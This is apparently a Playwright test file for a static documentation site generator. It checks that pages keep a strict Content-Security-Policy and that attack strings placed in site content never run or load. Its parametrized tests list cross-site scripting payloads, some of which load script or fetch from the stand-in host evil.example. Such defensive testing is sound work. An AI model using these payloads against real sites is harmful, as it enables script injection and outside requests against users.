"""Every page lives by its policy: nothing is asked of another host, and no text of a strategy runs,
policy or not.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from generator.schema.vocabulary import KINDS, standard_vocabulary
from tests.browser.conftest import SUB_PATH, open_context, serve
from tests.browser.places import PAGES
from tests.playbooks import AS_OF, run_playbook
from tests.sample import HEADER
from tests.trials.amount import choose, some
from tests.trials.injections import STRINGS, fill_entry

pytestmark = pytest.mark.browser

ROUNDS = choose(2, 30)
"""So many entries of each kind share the attacks among them; each field of an entry holds its whole
share.
"""


TOO_WIDE = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


def test_every_kind_of_page_lives_by_its_policy_and_is_no_wider_than_the_screen(
    page: Page, site_url: str
) -> None:
    for path in PAGES:
        page.goto(site_url + path)
        policy = page.locator("meta[http-equiv=Content-Security-Policy]")
        assert (policy.get_attribute("content") or "").startswith("default-src 'none'"), path
        assert page.evaluate(TOO_WIDE) <= 0, path


def test_the_theme_works_under_the_policy(page: Page, site_url: str) -> None:
    page.goto(site_url)
    before = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("label[for^=__palette]:visible").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before or "")
    page.reload()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before or "")


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.hit = 1</script>\"></iframe>')",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
        "fetch('https://evil.example/').catch(() => 0)",
        "document.body.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    ],
)
def test_the_policy_stops_what_it_should(browser: Browser, site_url: str, attack: str) -> None:
    """The other tests would be worth nothing if the policy were not enforced, or a breach went
    unseen.
    """
    context = open_context(browser)
    tab = context.new_page()
    tab.goto(site_url)
    with tab.expect_console_message(
        lambda said: said.type == "error" and "Content Security Policy" in said.text
    ):
        tab.evaluate(f"() => {{ {attack} }}")
    assert tab.evaluate("window.hit") is None
    context.close()


@pytest.fixture(scope="module")
def attacked_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site whose every text is an attack; that each of them is shown as text, with no browser, is
    another trial's.
    """
    folder = tmp_path_factory.mktemp("attacked")
    (folder / "playbook").mkdir()
    kinds = standard_vocabulary().kinds
    attacks = some(STRINGS, 40)
    texts = [" ".join(attacks[number::ROUNDS]) for number in range(ROUNDS)]
    header = {
        **HEADER,
        "company": texts[0],
        "statement": texts[1],
        "tagline": texts[-1],
    }
    entries = {
        kind: [
            fill_entry(kind, kinds[kind].fields, number, text) for number, text in enumerate(texts)
        ]
        for kind in KINDS
    }
    for entry in entries["announcements"]:
        entry["version"] = "1"  # a name of a version holds no signs that could be markup
    (folder / "strategy.yaml").write_text(json.dumps({"strategy": header, **entries}), "utf-8")
    settings = "site_name: Attacked\ndocs_dir: playbook\ntheme: {name: material, font: false}\nplugins: [search, {playbook: {tell: 'mailto:a@b.example'}}]\n"
    (folder / "mkdocs.yml").write_text(settings, "utf-8")
    done = run_playbook("build", "--as-of", AS_OF, "--audience", "leadership", cwd=folder)
    assert done.returncode == 0, done.stdout + done.stderr
    return folder / "site"


@pytest.mark.long
@pytest.mark.trial
def test_no_attack_runs_or_loads_even_without_the_policy(
    browser: Browser, attacked_site: Path, record_property
) -> None:
    pages = sorted(
        path.relative_to(attacked_site).as_posix() for path in attacked_site.rglob("*.html")
    )
    assert len(pages) > 8 * ROUNDS
    record_property("tried", len(pages))
    context = open_context(browser, bypass_csp=True)
    tab = context.new_page()
    faults: list[str] = []
    tab.on("dialog", lambda dialog: (faults.append(dialog.message), dialog.dismiss()))
    tab.on("pageerror", lambda error: faults.append(str(error)))
    with serve(attacked_site) as url:
        host = url.removesuffix(SUB_PATH)
        tab.on(
            "request",
            lambda asked: (
                None if asked.url.startswith((host, "data:")) else faults.append(asked.url)
            ),
        )
        for path in pages:
            tab.goto(url + path)
            assert tab.evaluate("window.hit") is None, path
            assert (
                tab.evaluate(
                    "document.querySelectorAll('article :is(script:not([src]), img, iframe, form:not(.pb-filter), style)').length"
                )
                == 0
            ), path
    context.close()
    assert faults == []
